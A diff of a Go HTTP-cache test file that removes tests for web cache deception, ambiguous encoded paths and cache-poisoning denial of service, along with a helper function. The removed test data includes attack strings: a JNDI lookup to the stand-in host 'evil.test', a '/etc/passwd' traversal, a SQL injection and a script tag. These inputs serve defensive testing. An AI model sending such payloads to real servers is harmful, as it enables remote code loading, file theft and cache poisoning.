@@ -1,10 +1,8 @@
 package httpcache
 
 import (
-	"fmt"
 	"net/http"
 	"strconv"
-	"strings"
 	"testing"
 	"time"
 )
@@ -249,33 +247,6 @@ func TestStorePostWithCookie(t *testing.T) {
 	}
 }
 
-func TestCacheDeception(t *testing.T) {
-	const page = "Content-Type: text/html; charset=utf-8\n"
-	tests := []struct {
-		name, path string
-		status     int
-		response   string
-		want       Reason
-	}{
-		{"a page as a style sheet", "/account/x.css", 200, fresh + page, TypeMismatch},
-		{"a style sheet", "/x.css", 200, fresh + "Content-Type: text/css", Storable},
-		{"a page", "/account", 200, fresh + page, Storable},
-		{"the origin says it is for all", "/x.css", 200, "Cache-Control: public, max-age=60\n" + page, Storable},
-		{"the origin says so with s-maxage", "/x.css", 200, "Cache-Control: s-maxage=60\n" + page, Storable},
-		{"an error page is a page", "/x.css", 404, fresh + page, Storable},
-		{"the path is not known", "", 200, fresh + page, Storable},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			x := get(tt.status, tt.response)
-			x.Path = tt.path
-			if _, got := Store(x, &Policy{}); got != tt.want {
-				t.Errorf("Store = %v, want %v", got, tt.want)
-			}
-		})
-	}
-}
-
 func TestStoreLeavesTheExchangeAlone(t *testing.T) {
 	x := getWith("Accept-Encoding: gzip", 200, fresh+"Connection: x-a\nX-A: 1\nX-B: 1\nAge: 5\nContent-Length: 5\nSet-Cookie: a=b\nVary: Accept-Encoding\nContent-Encoding: gzip")
 	request, response := x.RequestHeader.Clone(), x.Header.Clone()
@@ -304,110 +275,6 @@ func equalHeaders(a, b http.Header) bool {
 		}
 	}
 	return true
-}
-
-// A path that two parsers read differently makes a lifetime doubtful, but only
-// where there is somebody to be confused with another.
-func TestStoreUnderAmbiguousPath(t *testing.T) {
-	override := Policy{TTLOverride: []Lifetime{{nil, time.Minute}}}
-	tests := []struct {
-		name, path string
-		policy     Policy
-		request    string
-		response   string
-		want       Reason
-	}{
-		{"a plain path", "/static/a", override, "Cookie: a=b", "", Storable},
-		{"another way to spell letters", "/static/%61", override, "Cookie: a=b", "", Storable},
-		{"encoded slash", "/account%2f..%2fstatic/a", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded slash, explicit lifetime", "/account%2Fstatic", Policy{}, "Cookie: a=b", fresh, CookieRequest},
-		{"encoded twice", "/account%252f..%252fstatic/a", override, "Cookie: a=b", "", CookieRequest},
-		{"segments that go up", "/account/../static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded segments that go up", "/account/%2e%2e/static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"semicolon", "/account;/static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded semicolon", "/account%3b/static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded question mark", "/account%3f/static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded fragment", "/account%23/static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded NUL", "/account%00/static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded line break", "/account%0a/static/a", override, "Cookie: a=b", "", CookieRequest},
-		{"backslash", "/account\\static", override, "Cookie: a=b", "", CookieRequest},
-		{"encoded backslash", "/account%5cstatic", override, "Cookie: a=b", "", CookieRequest},
-		{"two slashes", "/account//static", override, "Cookie: a=b", "", CookieRequest},
-		{"nobody to confuse", "/account%2f..%2fstatic/a", override, "", "", Storable},
-		{"public", "/account%2fstatic/a", override, "Cookie: a=b", "Cache-Control: public", Storable},
-		{"public, and up", "/account%2f..%2fstatic/a", override, "Cookie: a=b", "Cache-Control: public", CookieRequest},
-		{"public, and up with a parameter", "/static/..;/account", Policy{}, "Cookie: a=b", "Cache-Control: public, max-age=60", CookieRequest},
-		{"public, and begun like a host", "//static/account", Policy{}, "Cookie: a=b", "Cache-Control: public, max-age=60", CookieRequest},
-		{"public, and up for one who is authenticated", "/static/..%5caccount", Policy{}, "Authorization: Basic eDp5", "Cache-Control: public, max-age=60", Authorization},
-		{"Vary: Cookie", "/account%2f..%2fstatic/a", override, "Cookie: a=b", "Vary: Cookie", Storable},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			x := getWith(tt.request, 200, tt.response)
-			x.Path = tt.path
-			if _, got := Store(x, &tt.policy); got != tt.want {
-				t.Errorf("Store = %v, want %v", got, tt.want)
-			}
-		})
-	}
-}
-
-// An error in answer to an odd request is about the request.
-func TestErrorsOfOddRequests(t *testing.T) {
-	tests := []struct {
-		name, request string
-		status        int
-		want          Reason
-	}{
-		{"9110-15.5.1 an ordinary request", "X: y", 400, Storable},
-		{"CPDoS header oversize", "X: " + strings.Repeat("y", oddBytes), 400, StatusNotCacheable},
-		{"CPDoS header oversize, many fields", strings.Repeat("X: 0123456789\n", oddBytes/10), 400, StatusNotCacheable},
-		{"CPDoS header oversize, another error", "X: " + strings.Repeat("y", oddBytes), 500, StatusNotCacheable},
-		{"CPDoS header oversize, no error", "X: " + strings.Repeat("y", oddBytes), 200, Storable},
-		{"CPDoS meta character", "X: \x07", 400, StatusNotCacheable},
-		{"CPDoS obs-text", "X: \u00e9", 404, StatusNotCacheable},
-		{"a tab is whitespace", "X: a\tb", 400, Storable},
-		{"CPDoS many small fields", manyFields(oddLines + 1), 400, StatusNotCacheable},
-		{"as many as a request may well have", manyFields(oddLines / 2), 400, Storable},
-		{"CPDoS a script", "X: <script>", 400, StatusNotCacheable},
-		{"CPDoS an injection", "User-Agent: ' or 1=1", 500, StatusNotCacheable},
-		{"CPDoS a look-up", "X-Api-Version: ${jndi:ldap://evil.test/a}", 500, StatusNotCacheable},
-		{"CPDoS a way up", "X: ../../etc/passwd", 404, StatusNotCacheable},
-		{"CPDoS an object store's parameter", "X-Amz-Server-Side-Encryption: x", 400, StatusNotCacheable},
-		{"what browsers send", "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0)\n" +
-			"Sec-Ch-Ua: \"Not/A)Brand\";v=\"99\", \"A (B) C=D?\";v=\"1\"\nReferer: https://a.test/b?c=d&e=%27#f\n" +
-			"If-None-Match: W/\"x\"\nSec-Fetch-Mode: navigate\nPriority: u=0, i\nAccept: text/html,*/*;q=0.8", 400, Storable},
-		{"what a client says in words", "X-Test: Is it `odd' {or} not | 5^2 > 4?", 400, Storable},
-		{"what CloudFront says", "X-Amz-Cf-Id: x", 404, Storable},
-		{"what says whom a proxy let through", "X-Goog-Authenticated-User-Email: a\nX-Ms-Token-Aad-Id-Token: a", 404, Storable},
-		{"a refusal that a cookie may have made", "Cookie: a=b", 403, StatusNotCacheable},
-		{"an error that a cookie may have made", "Cookie: a=b", 400, StatusNotCacheable},
-		{"a failure that a cookie may have made", "Cookie: a=b", 500, StatusNotCacheable},
-		{"a failure that an origin may have made", "Origin: https://evil.test", 500, StatusNotCacheable},
-		{"9110-15.5.5 about the resource", "Cookie: a=b|c", 404, Storable},
-		{"9110-15.6.4 about the server", "Cookie: a=b", 503, Storable},
-	}
-	for _, status := range []int{400, 401, 403, 500} {
-		x := getWith("Cookie: a=b", status, "Cache-Control: public, max-age=60")
-		if _, got := Store(x, &Policy{}); got != Storable {
-			t.Errorf("%d that is public: %v", status, got)
-		}
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			if _, got := Store(getWith(tt.request, tt.status, fresh), &Policy{}); got != tt.want {
-				t.Errorf("Store = %v, want %v", got, tt.want)
-			}
-		})
-	}
-}
-
-func manyFields(n int) string {
-	var b strings.Builder
-	for i := range n {
-		fmt.Fprintf(&b, "X%d: y\n", i)
-	}
-	return b.String()
 }
 
 // A class of statuses is not for those that are about who asks.
